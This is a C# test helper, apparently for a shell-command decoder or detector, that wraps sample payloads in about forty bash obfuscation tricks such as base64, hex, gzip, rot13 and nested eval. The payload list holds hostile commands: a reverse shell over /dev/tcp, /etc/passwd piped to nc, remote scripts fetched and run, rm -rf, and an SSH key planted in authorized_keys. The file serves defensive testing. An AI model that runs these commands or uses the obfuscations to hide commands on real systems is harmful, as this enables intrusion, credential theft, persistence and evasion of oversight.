using System.IO.Compression;
using System.Text;

namespace Stemma.Decoding.Tests;

/// <summary>Ways to hide a shell command, after the families of the obfuscators: command, string, token, encoding, compression. The same seed gives the same text.</summary>
internal static class ShellObfuscation
{
    public static readonly string[] Payloads =
    [
        "whoami", "curl -fsSL http://198.51.100.7/x.sh -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x", "cat /etc/passwd | nc 203.0.113.9 4444",
        "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "wget -q -O- http://files.example.net/a.txt | sh", "echo 'it is done' >> /tmp/log.txt; rm -rf /var/tmp/.cache",
        "crontab -l | grep -v kworker | crontab -", "python3 -c 'import os; os.system(\"id\")'", "mkdir -p ~/.ssh && echo ssh-rsa AAAAB3 >> ~/.ssh/authorized_keys",
    ];

    public static readonly (string Name, Func<string, Random, string> Hide)[] All =
    [
        ("reverse with rev", (s, r) => $"{Run(r, $"rev <<< {Q(Reversed(s))}")}"),
        ("reverse piped", (s, r) => $"printf %s {Q(Reversed(s))} | rev | {Shell(r)}"),
        ("case swap", (s, r) => $"x={Q(Swapped(s))}; eval \"${{x~~}}\""),
        ("base64 piped", (s, r) => $"echo {B64(s)} | base64 -d | {Shell(r)}"),
        ("base64 in eval", (s, r) => $"eval \"$(echo {B64(s)} | base64 --decode)\""),
        ("base64 here-string", (s, r) => $"bash -c \"$(base64 -d <<< {B64(s)})\""),
        ("base64 source", (s, r) => $"source <(echo {B64(s)} | base64 -d)"),
        ("base64 here-document", (s, r) => $"base64 -d << 'EOF' | {Shell(r)}\n{B64(s)}\nEOF\n"),
        ("openssl", (s, r) => $"echo {B64(s)} | openssl enc -base64 -d -A | {Shell(r)}"),
        ("hex by printf", (s, r) => Run(r, $"printf '{Hex(s)}'")),
        ("octal by printf", (s, r) => Run(r, $"printf '{Octal(s)}'")),
        ("octal by echo", (s, r) => $"echo -e '{string.Concat(Encoding.UTF8.GetBytes(s).Select(b => "\\0" + Convert.ToString(b, 8).PadLeft(3, '0')))}' | {Shell(r)}"),
        ("hex by xxd", (s, r) => $"echo {Convert.ToHexString(Encoding.UTF8.GetBytes(s)).ToLowerInvariant()} | xxd -r -p | {Shell(r)}"),
        ("hex one by one", (s, r) => $"for i in {string.Join(' ', Encoding.UTF8.GetBytes(s).Select(b => b.ToString("x2")))}; do printf \"\\x$i\"; done | {Shell(r)}"),
        ("gzip and base64", (s, r) => $"echo {Convert.ToBase64String(Gzip(s))} | base64 -d | gunzip -c | {Shell(r)}"),
        ("gzip in eval", (s, r) => $"eval \"$(echo '{Convert.ToBase64String(Gzip(s))}' | base64 -d | gzip -dc)\""),
        ("array indices shuffled", Shuffled),
        ("characters in a for loop", Looped),
        ("C-style loop", (s, r) => $"d={Q(Reversed(s))}; o=; for ((i=${{#d}}-1; i>=0; i--)); do o+=\"${{d:$i:1}}\"; done; eval \"$o\""),
        ("while read", (s, r) => $"while read -r a; do o=\"$o$a\"; done <<< {B64(s)}; echo $o | base64 -d | {Shell(r)}"),
        ("names of special characters", (s, r) => $"__=(); ___={Q(s[..(s.Length / 2)])}; ____={Q(s[(s.Length / 2)..])}; eval \"${{___}}${{____}}\""),
        ("IFS separators", (s, r) => $"c={Q(s.Replace(' ', '\u0007'))}; eval \"${{c//$'\\a'/${{IFS:0:1}}}}\""),
        ("ANSI-C quoting", (s, r) => $"eval $'{Hex(s)}'"),
        ("ANSI-C words", (s, r) => $"bash -c $'{Octal(s)}'"),
        ("brace expansion", (s, r) => $"x=$(printf %s {{{string.Join(',', s.Select(c => Q(c.ToString())))}}}); eval \"$x\""),
        ("replace junk", (s, r) => $"v={Q(Junk(s, r))}; eval \"${{v//Zq/}}\""),
        ("prefix and suffix", (s, r) => $"v={Q("qqqq#" + s + "#wwww")}; v=${{v#*\\#}}; v=${{v%\\#*}}; eval \"$v\""),
        ("indirect names", (s, r) => $"a={Q(s)}; b=a; eval \"${{!b}}\""),
        ("tr rotation", (s, r) => $"echo {Q(Rot13(s))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | {Shell(r)}"),
        ("sed replacement", (s, r) => $"echo {Q(s.Replace("e", "@@", StringComparison.Ordinal))} | sed 's/@@/e/g' | {Shell(r)}"),
        ("eval nested", (s, r) => $"eval \"eval \\\"\\$(echo {B64(B64(s))} | base64 -d | base64 -d)\\\"\""),
        ("here-document to a shell", (s, r) => $"{Shell(r)} <<'X'\n{s}\nX\n"),
        ("functions", (s, r) => $"f() {{ echo \"$1\" | rev; }}; g() {{ f \"$1\"; }}; eval \"$(g {Q(Reversed(s))})\""),
        ("through a file", (s, r) => $"echo {B64(s)} > /tmp/.a; base64 -d /tmp/.a > /tmp/.b; sh /tmp/.b"),
        ("substrings of an alphabet", Alphabet),
        ("arithmetic", (s, r) => $"o=; for i in {string.Join(' ', Encoding.UTF8.GetBytes(s).Select(b => b + 7))}; do o+=$(printf \"\\\\$(printf %o $((i-7)))\"); done; eval \"$o\""),
        ("cut", (s, r) => $"eval \"$(echo {Q(string.Join('%', "junk", s, "more"))} | cut -d'%' -f2)\""),
        ("xargs", (s, r) => $"echo {B64(s)} | base64 -d | xargs -0 -I{{}} bash -c {{}}"),
        ("head and tail", (s, r) => $"printf %s {Q("xxxxx" + s + "yyy")} | tail -c +6 | head -c {s.Length} | {Shell(r)}"),
    ];

    private static string Run(Random random, string printer) => random.Next(3) switch
    {
        0 => $"eval \"$({printer})\"",
        1 => $"{Shell(random)} -c \"$({printer})\"",
        _ => $"{printer} | {Shell(random)}",
    };

    private static string Shell(Random random) => random.Next(4) switch { 0 => "sh", 1 => "/bin/bash", 2 => "bash -s", _ => "bash" };

    private static string Q(string text) => "'" + text.Replace("'", "'\\''", StringComparison.Ordinal) + "'";

    private static string Reversed(string text) => new([.. text.Reverse()]);

    private static string Swapped(string text) => string.Concat(text.Select(c => char.IsUpper(c) ? char.ToLowerInvariant(c) : char.ToUpperInvariant(c)));

    private static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Hex(string text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => $"\\x{b:x2}"));

    private static string Octal(string text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => "\\" + Convert.ToString(b, 8).PadLeft(3, '0')));

    private static string Rot13(string text) =>
        string.Concat(text.Select(c => char.IsAsciiLetterLower(c) ? (char)('a' + ((c - 'a' + 13) % 26)) : char.IsAsciiLetterUpper(c) ? (char)('A' + ((c - 'A' + 13) % 26)) : c));

    private static string Junk(string text, Random random) => string.Concat(text.Select(c => random.Next(2) == 0 ? c + "Zq" : c.ToString()));

    private static byte[] Gzip(string text)
    {
        using var to = new MemoryStream();
        using (var gzip = new GZipStream(to, CompressionLevel.SmallestSize)) { gzip.Write(Encoding.UTF8.GetBytes(text)); }
        return to.ToArray();
    }

    private static string Shuffled(string text, Random random)
    {
        int[] order = [.. Enumerable.Range(0, text.Length)];
        random.Shuffle(order);
        string items = string.Join(' ', order.Select(i => Q(text[i].ToString())));
        string indices = string.Join(' ', Enumerable.Range(0, text.Length).Select(i => Array.IndexOf(order, i)));
        return $"a=({items}); for i in {indices}; do printf %s \"${{a[$i]}}\"; done | bash";
    }

    private static string Looped(string text, Random random)
    {
        string alphabet = new([.. text.Distinct().OrderBy(_ => random.Next())]);
        return $"k={Q(alphabet)}; c=; for n in {string.Join(' ', text.Select(c => alphabet.IndexOf(c)))}; do c=\"$c${{k:$n:1}}\"; done; eval \"$c\"";
    }

    private static string Alphabet(string text, Random random)
    {
        string alphabet = new([.. text.Distinct().OrderBy(_ => random.Next())]);
        return $"A={Q(alphabet)}; eval \"{string.Concat(text.Select(c => $"${{A:{alphabet.IndexOf(c)}:1}}"))}\"";
    }
}
